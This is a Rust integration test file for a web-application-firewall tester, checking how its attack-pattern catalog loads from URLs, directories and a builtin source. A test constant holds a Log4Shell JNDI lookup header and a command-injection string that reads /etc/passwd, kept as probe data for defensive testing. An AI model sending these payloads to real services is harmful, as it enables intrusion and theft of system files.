//! Integration tests for loading the pattern catalog from files and URLs

mod helpers;

use std::fs;
use std::sync::Arc;

use helpers::test_config;
use tempfile::TempDir;
use waf_tester::catalog::load_catalog;
use waf_tester::{
    AttackCategory, BuiltinSource, CatalogError, EngineError, FileSource, UrlSource, WafTester,
};
use wiremock::matchers::{method, path};
use wiremock::{Mock, MockServer, ResponseTemplate};

const REMOTE_PATTERNS: &str = r#"[
    {"id": "rce-1", "category": "RCE", "description": "log4shell lookup",
     "request": {"path": "/", "headers": {"X-Api-Version": "${jndi:ldap://x/a}"}}},
    {"id": "cmd-1", "category": "Command Injection", "description": "semicolon chain",
     "request": {"method": "GET", "path": "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"}}
]"#;

#[tokio::test]
async fn test_url_source_loads_catalog() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/patterns.json"))
        .respond_with(ResponseTemplate::new(200).set_body_string(REMOTE_PATTERNS))
        .expect(1)
        .mount(&server)
        .await;

    let url = format!("{}/patterns.json", server.uri());
    let source = UrlSource::new(&url, reqwest::Client::new());
    let catalog = load_catalog(&source).await.expect("Catalog should load");

    assert_eq!(catalog.len(), 2);
    assert_eq!(catalog.origin(), url);
    assert_eq!(
        catalog.category_of("cmd-1"),
        Some(AttackCategory::CommandInjection)
    );
    let rce = catalog.get("rce-1").expect("rce-1 is in the catalog");
    assert_eq!(rce.template.method, "GET");
    assert_eq!(
        rce.template.headers.get("X-Api-Version").map(String::as_str),
        Some("${jndi:ldap://x/a}")
    );
}

#[tokio::test]
async fn test_url_source_error_status_is_unavailable() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .respond_with(ResponseTemplate::new(500))
        .mount(&server)
        .await;

    let url = format!("{}/patterns.json", server.uri());
    let source = UrlSource::new(&url, reqwest::Client::new());
    match load_catalog(&source).await {
        Err(CatalogError::Unavailable { origin, reason }) => {
            assert_eq!(origin, url);
            assert!(reason.contains("error status"), "reason was: {}", reason);
        }
        other => panic!("Expected Unavailable, got {:?}", other.map(|c| c.len())),
    }
}

#[tokio::test]
async fn test_url_source_malformed_json_is_unavailable() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .respond_with(ResponseTemplate::new(200).set_body_string("<html>not json</html>"))
        .mount(&server)
        .await;

    let source = UrlSource::new(&server.uri(), reqwest::Client::new());
    let err = load_catalog(&source)
        .await
        .expect_err("Malformed JSON must not load");
    assert!(matches!(err, CatalogError::Unavailable { .. }));
}

#[tokio::test]
async fn test_duplicate_ids_across_files_are_rejected() {
    let dir = TempDir::new().expect("Failed to create temp dir");
    let one = r#"[{"id": "x-1", "category": "XSS", "description": "a", "request": {"path": "/a"}}]"#;
    let two = r#"[{"id": "x-1", "category": "XSS", "description": "b", "request": {"path": "/b"}}]"#;
    fs::write(dir.path().join("a.json"), one).expect("Failed to write a.json");
    fs::write(dir.path().join("b.json"), two).expect("Failed to write b.json");

    let err = load_catalog(&FileSource::new(dir.path()))
        .await
        .expect_err("Duplicate ids must not load");
    match err {
        CatalogError::Unavailable { reason, .. } => assert!(reason.contains("x-1")),
        other => panic!("Expected Unavailable, got {:?}", other),
    }
}

#[tokio::test]
async fn test_tester_lists_patterns_from_directory() {
    let dir = TempDir::new().expect("Failed to create temp dir");
    fs::write(dir.path().join("remote.json"), REMOTE_PATTERNS).expect("Failed to write patterns");
    fs::write(dir.path().join("README.txt"), "ignored").expect("Failed to write readme");

    let tester = WafTester::new(test_config(), Arc::new(FileSource::new(dir.path())))
        .expect("Failed to build tester");
    let catalog = tester.list_patterns().await.expect("Catalog should load");
    let ids: Vec<&str> = catalog.list().iter().map(|p| p.id.as_str()).collect();
    assert_eq!(ids, vec!["rce-1", "cmd-1"]);

    // The session keeps the first load even if the files change
    fs::remove_file(dir.path().join("remote.json")).expect("Failed to remove patterns");
    let again = tester.list_patterns().await.expect("Cached catalog");
    assert_eq!(again.len(), 2);
}

#[tokio::test]
async fn test_missing_directory_surfaces_as_catalog_error() {
    let dir = TempDir::new().expect("Failed to create temp dir");
    let missing = dir.path().join("does-not-exist");
    let tester = WafTester::new(test_config(), Arc::new(FileSource::new(&missing)))
        .expect("Failed to build tester");

    let target = waf_tester::TestTarget::new("http://127.0.0.1:9", "shop.example.com");
    let err = tester
        .run_one("rce-1", &target)
        .await
        .expect_err("No catalog, no probe");
    assert!(matches!(
        err,
        EngineError::Catalog(CatalogError::Unavailable { .. })
    ));
}

#[tokio::test]
async fn test_builtin_catalog_spans_all_categories() {
    let tester =
        WafTester::new(test_config(), Arc::new(BuiltinSource)).expect("Failed to build tester");
    let catalog = tester.list_patterns().await.expect("Builtin catalog loads");
    assert!(catalog.len() >= 20);
    assert_eq!(catalog.categories().len(), 7);
}
